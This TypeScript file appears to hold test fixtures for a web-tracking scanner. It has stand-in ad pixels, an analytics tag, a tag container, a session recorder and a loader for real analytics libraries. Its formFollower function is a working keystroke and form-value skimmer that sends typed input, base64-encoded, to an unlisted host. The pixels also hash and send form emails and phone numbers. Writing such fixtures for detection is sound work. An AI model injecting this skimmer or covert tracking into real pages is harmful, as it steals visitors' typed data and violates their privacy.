import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { packageRoot } from '#scanners/package-root.ts'

// Own stand-ins of tags that ship no package. They follow the wire formats only; no line of a vendor's code is in them.

/** An advertising pixel: reads its configuration, reports page views, matches form fields by hashed values on change. */
export const socialPixel = (id: string): string => `(function () {
  var api = 'https://www.facebook.com/tr/'
  function hash(text) {
    return crypto.subtle.digest('SHA-256', new TextEncoder().encode(text.trim().toLowerCase())).then(function (bytes) {
      return [].map.call(new Uint8Array(bytes), function (b) { return ('0' + b.toString(16)).slice(-2) }).join('')
    })
  }
  function send(event, extra) {
    var fbp = (document.cookie.match(/_fbp=([^;]+)/) || [])[1]
    if (!fbp) { fbp = 'fb.1.' + Date.now() + '.' + Math.floor(Math.random() * 1e9); document.cookie = '_fbp=' + fbp + ';path=/' }
    var query = 'id=${id}&ev=' + event + '&dl=' + encodeURIComponent(location.href) + '&rl=' + encodeURIComponent(document.referrer) + '&if=false&ts=' + Date.now() + '&v=2.9.170&o=30&fbp=' + fbp
    new Image().src = api + '?' + query + (extra || '')
  }
  window._fbq = window.fbq = function () {}
  send('PageView')
  document.addEventListener('change', function (event) {
    var field = event.target, kind = { email: 'em', tel: 'ph' }[field.type]
    if (kind && field.value) hash(kind === 'ph' ? field.value.replace(/\\D/g, '') : field.value).then(function (value) {
      send('SubscribedButtonClick', '&udff[' + kind + ']=' + value)
    })
  }, true)
})()`

export const socialPixelConfig = (id: string): string =>
  `fbq.registerPlugin("${id}", {__fbEventsPlugin: 1, plugin: function (fbq, instance, config) {
  config.set("${id}", "automaticMatching", {"selectedMatchKeys":["em","fn","ln","ph"]});
  fbq.loadPlugin("inferredevents"); instance.optIn("${id}", "InferredEvents", true);
  instance.optIn("${id}", "AutomaticMatching", true); config.set("${id}", "cookie", {"fbpixel_first_party": true}); } });`

/** A measurement tag: page view at once, form start on the first input; a batch by beacon when the page hides. */
export const measurementTag = (
  id: string,
  endpoint = 'https://www.google-analytics.com/g/collect',
): string => `(function () {
  var cid = (document.cookie.match(/_ga=GA1\\.1\\.([^;]+)/) || [])[1]
  if (!cid) { cid = Math.floor(Math.random() * 2e9) + '.' + Math.floor(Date.now() / 1000); document.cookie = '_ga=GA1.1.' + cid + ';path=/;max-age=63072000' }
  var base = '${endpoint}?v=2&tid=${id}&gtm=45je&cid=' + cid + '&sid=' + Math.floor(Date.now() / 1000) + '&_p=' + Date.now()
  var page = '&dl=' + encodeURIComponent(location.href) + '&dr=' + encodeURIComponent(document.referrer) + '&dt=' + encodeURIComponent(document.title)
  function send(event, extra) { fetch(base + page + '&en=' + event + (extra || ''), { method: 'POST', keepalive: true, mode: 'no-cors' }) }
  send('page_view')
  var started = false
  document.addEventListener('input', function (event) {
    if (event.target.type === 'search') send('view_search_results', '&ep.search_term=' + encodeURIComponent(event.target.value))
    if (!started) { started = true; send('form_start', '&ep.form_id=' + (event.target.form ? event.target.form.id : '')) }
  }, true)
  addEventListener('pagehide', function () { navigator.sendBeacon(base + page, 'en=user_engagement&_et=1200\\r\\nen=scroll&epn.percent_scrolled=90') })
})()`

/** A container that loads other tags; one of its tags is paused, one waits for a click that never comes. */
export const tagContainer = (id: string, loads: ReadonlyArray<string>): string => `
var data = {"resource": {"version":"7","macros":[{"function":"__e"},{"function":"__u","vtp_component":"URL"}],
"tags":[{"function":"__googtag","vtp_tagId":"G-N0RTHF1ELD","tag_id":4},
{"function":"__html","vtp_html":"<script src=\\"https://analytics.tiktok.com/i18n/pixel/events.js?sdkid=C0NORTHFIELD\\"></script>","tag_id":6},
{"function":"__awct","vtp_conversionId":"AW-123456789","vtp_conversionLabel":"bookedVisit","tag_id":9},
{"function":"__paused","vtp_originalTagType":"html","tag_id":11}],
"predicates":[{"function":"_eq","arg0":["macro",0],"arg1":"gtm.js"},{"function":"_cn","arg0":["macro",1],"arg1":"thank-you"},{"function":"_eq","arg0":["macro",0],"arg1":"gtm.click"}],
"rules":[[["if",0],["add",0,1]],[["if",1,2],["add",2]]]},"runtime":[]};
window.google_tag_manager = window.google_tag_manager || {}; window.google_tag_manager["${id}"] = {};
(function () { ${JSON.stringify(loads)}.forEach(function (url) { var s = document.createElement('script'); s.async = true; s.src = url; document.head.appendChild(s) }) })()`

/** An advertising pixel of the short-video kind: JSON posts with the page and hashed identity. */
export const videoPixel = (id: string): string => `(function () {
  function send(event) {
    fetch('https://analytics.tiktok.com/api/v2/pixel', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({
      event: event, event_id: Math.random().toString(16).slice(2), timestamp: new Date().toISOString(), is_onsite: false,
      context: { pixel: { code: '${id}' }, page: { url: location.href, referrer: document.referrer }, user: { anonymous_id: 'a-' + Math.random() }, library: { name: 'pixel.js', version: '2.2.1' } } }) })
  }
  window.ttq = { track: send }; setTimeout(function () { send('Pageview') }, 8000)
})()`

/** A home-made form follower on a host nobody lists: keystrokes over a socket, the whole form as base64 on blur. */
export const formFollower = (host: string): string => `(function () {
  var socket = new WebSocket('wss://${host}/live')
  document.addEventListener('keyup', function (event) { if (socket.readyState === 1) socket.send(JSON.stringify({ k: event.key, f: event.target.name })) }, true)
  document.addEventListener('blur', function (event) {
    if (event.target.value) fetch('https://${host}/partial', { method: 'POST', mode: 'no-cors', body: 'd=' + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify({ n: event.target.name, v: event.target.value }))))) })
  }, true)
})()`

/** A recorder of the page around the real open-source library: events in batches by JSON. */
export const recorderLoader = (host: string): string => `(function () {
  var events = []
  rrweb.record({ emit: function (event) { events.push(event) } })
  setInterval(function () { if (events.length) { fetch('https://${host}/events', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ session: 's1', events: events.splice(0) }) }) } }, 2000)
})()`

const fromPackages = {
  posthog: 'posthog-js/dist/array.full.no-external.js',
  mixpanel: 'mixpanel-browser/dist/mixpanel.umd.js',
  segment: '@segment/analytics-next/dist/umd/standalone.js',
  datadog: '@datadog/browser-rum/bundle/datadog-rum.js',
  rrweb: 'rrweb/umd/rrweb.min.js',
} as const

/** The real build of a library from the package registry (a development dependency). */
export function realLibrary(name: keyof typeof fromPackages): string {
  return readFileSync(join(packageRoot, 'node_modules', fromPackages[name]), 'utf8')
}
